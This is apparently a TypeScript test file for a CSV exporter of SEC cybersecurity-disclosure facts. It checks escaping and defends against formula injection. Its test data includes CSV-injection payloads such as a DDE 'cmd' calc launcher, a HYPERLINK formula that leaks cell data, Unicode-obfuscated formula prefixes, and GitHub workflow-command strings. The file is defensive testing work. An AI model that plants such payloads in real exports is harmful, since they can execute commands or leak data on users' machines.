import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { filing, flag, richFiling, textBlock, year2025 } from '../../../presentation/test/sample';
import { withoutControls } from '../text/safe-text';
import { csv, csvRows } from './facts-csv';

const header =
  'accession,cik,name,form,period_end,fiscal_year,taxonomy,concept,label,type,value,' +
  'context_start,context_end,dimensions,document,start,end,id,entity,lang,' +
  'co_registrants,period_rounded';

/** A reader of RFC 4180 that knows nothing of the writer. */
function read(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const fields = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (const [, quoted, plain = '', end] of text.matchAll(fields)) {
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

/** The only row of the only fact, by column. */
function rowOf(text: string): Record<string, string | undefined> {
  const [names = [], cells = [], ...more] = read(text);
  expect(more).toEqual([]);
  return Object.fromEntries(names.map((name, i) => [name, cells[i]]));
}

it('has one row a fact', () => {
  const given = filing([textBlock('RoleOfManagementTextBlock', 'We manage.', { id: 'f-7' })]);
  expect(rowOf(csv([given]))).toEqual({
    accession: '0009999903-26-000007',
    cik: '0009999903',
    name: 'Harbor Lamp Works, Inc.',
    form: '10-K',
    period_end: '2025-12-31',
    fiscal_year: '2025',
    taxonomy: 'cyd/2025',
    concept: 'CybersecurityRiskRoleOfManagementTextBlock',
    label: 'Cybersecurity Risk Role of Management [Text Block]',
    type: 'textBlock',
    value: 'We manage.',
    context_start: '2025-01-01',
    context_end: '2025-12-31',
    dimensions: '',
    document: 'harbor.htm',
    start: '100',
    end: '200',
    id: 'f-7',
    entity: '0009999903',
    lang: '',
    co_registrants: '',
    period_rounded: '',
  });
});

it('has the co-registrants, the language of a text and what a period is rounded to', () => {
  const coRegistrants = [
    { name: 'Lamp Finance LLC', cik: '0009999904' },
    { name: 'Lamp Leasing LLC', cik: null },
  ];
  const given = filing([textBlock('RoleOfManagementTextBlock', 'Dirigimos.', { lang: 'es' })], {
    entity: { name: 'Harbor Lamp Works, Inc.', cik: '0009999903', coRegistrants },
    period: { start: null, end: '2025-12-31', rounded: 'month' },
  });
  expect(rowOf(csv([given]))).toMatchObject({
    lang: 'es',
    co_registrants: '0009999904; Lamp Leasing LLC',
    period_rounded: 'month',
  });
});

it('has one header for all filings, and has it where there is no fact', () => {
  const rich = richFiling();
  expect(csv([])).toBe(`${header}\r\n`);
  expect(csv([rich, rich])).toBe(`${header}\r\n${csvRows([rich])}${csvRows([rich])}`);
  expect(read(csvRows([rich]))).toHaveLength(rich.facts.length);
});

it.each([
  [true, 'true'],
  [false, 'false'],
  [null, ''],
])('a flag that is %s reads "%s"', (value, cell) => {
  expect(rowOf(csv([filing([flag('ThirdPartyEngagedFlag', value)])]))['value']).toBe(cell);
});

it('names axes with their members', () => {
  const name = (text: string) => ({ namespace: null, name: text });
  const dimensions = [
    { axis: name('IncidentAxis'), member: name('MarchMember') },
    { axis: name('SiteAxis'), member: null, typed: 'North' },
  ];
  const fact = flag('ThirdPartyEngagedFlag', true, { context: { ...year2025, dimensions } });
  expect(rowOf(csv([filing([fact])]))['dimensions']).toBe(
    'IncidentAxis=MarchMember; SiteAxis=North',
  );
});

function readBack(value: string): string | undefined {
  return rowOf(csv([filing([textBlock('RoleOfManagementTextBlock', value)])]))['value'];
}

/** Line and paragraph separators and marks of direction are graphemes, too. */
function isPlain(text: string): boolean {
  return withoutControls(text) === text && !/[;\n]/.test(text);
}

describe('text', () => {
  it.each(['a,b', 'say "lamp"', 'two\nlines', '"', 'é 漢 😀'])('%j is kept', (text) => {
    expect(readBack(text)).toBe(text);
  });

  it('without line feeds and control characters comes back as it was', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }).filter(isPlain), (text) => {
        expect(readBack(`.${text}`)).toBe(`.${text}`);
      }),
    );
  });
});

describe('a formula', () => {
  it.each([
    '=HYPERLINK("https://example.com/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '  =1+1',
    '\uff1d1+1',
    '"=1+1',
    "'=1+1",
    '“ =1+1',
    '\u200b=1+1',
    '\ufeff\u2060 @SUM(1)',
    '\u3164+1',
    '\u00ad-1',
    '\ufe66cmd',
  ])('%j gets an apostrophe', (text) => {
    expect(readBack(text)).toBe(`'${text}`);
  });

  it.each([
    ['x;=1+1', "x;'=1+1"],
    ['x; "=1+1', 'x;\' "=1+1'],
    ['x;\u200b\uff1d1', "x;'\u200b\uff1d1"],
    ['x;;-1;y', "x;;'-1;y"],
    ['two\n=1+1', "two\n'=1+1"],
    ['\n=1+1', "\n'=1+1"],
    ["x;'=1", "x;''=1"],
  ])('%j becomes %j, since cells may end at semicolons', (text, expected) => {
    expect(readBack(text)).toBe(expected);
  });

  it.each(['1+1=2', 'a; b', "it's 5-3", 'Axis=Member; Site=North', 'a@b.example'])(
    '%j is none, and kept',
    (text) => {
      expect(readBack(text)).toBe(text);
    },
  );

  it.each(['\t=1+1', '\r=1+1'])('%j loses what is before it, and gets an apostrophe', (text) => {
    expect(readBack(text)).toBe("' =1+1");
  });

  it('is nowhere, whatever the source says', () => {
    const start = fc.constantFrom(...'=+-@\t\r\n \u00a0",;\'\u200b\ufeff\uff1d');
    const hostile = fc.tuple(fc.array(start), fc.string()).map(([a, b]) => a.join('') + b);
    fc.assert(
      fc.property(hostile, (text) => {
        const fact = textBlock('RoleOfManagementTextBlock', text, {
          id: text,
          concept: text,
          label: text,
          locations: [{ document: text, start: 1, end: 2 }],
        });
        const given = filing([fact], { entity: { name: text, cik: text }, form: text });
        for (const cell of Object.values(rowOf(csv([given])))) {
          for (const part of [cell, ...(cell ?? '').split(/[;\n]/)]) {
            expect(part).not.toMatch(/^[\s\u200b\ufeff"]*[=+\-@\uff1d]/);
          }
        }
      }),
    );
  });
});

it.each([
  ['an empty table', []],
  ['text', ['a "b"', 'é 漢 😀', "'", "''"]],
  ['formulas', ['=1', "'=1", 'x;=1\n-1', ';;\n=', "';'=1"]],
])('gives %s back when an apostrophe is removed before each formula', (_, texts) => {
  const guarded = /(?<=^|[;\n])'(?=['"\s]*[=+\-@])/g;
  for (const text of texts) expect(readBack(text)?.replace(guarded, '')).toBe(text);
});

it('puts what looks like a workflow command in quotes, and splits it only after a line feed', () => {
  const text = csv([filing([flag('ThirdPartyEngagedFlag', true)], { accession: '::add-mask::x' })]);
  expect(text.split('\r\n')[1]).toMatch(/^"::add-mask::x",/);
  expect(readBack(' ::stop-commands::x')).toBe(' ::stop-commands::x');
  expect(readBack('x\n::stop-commands::x')).toBe('x\n:\u2060:stop-commands::x');
});

it('places are numbers', () => {
  expect(csv([richFiling()])).toContain(',harbor.htm,100,200,');
});
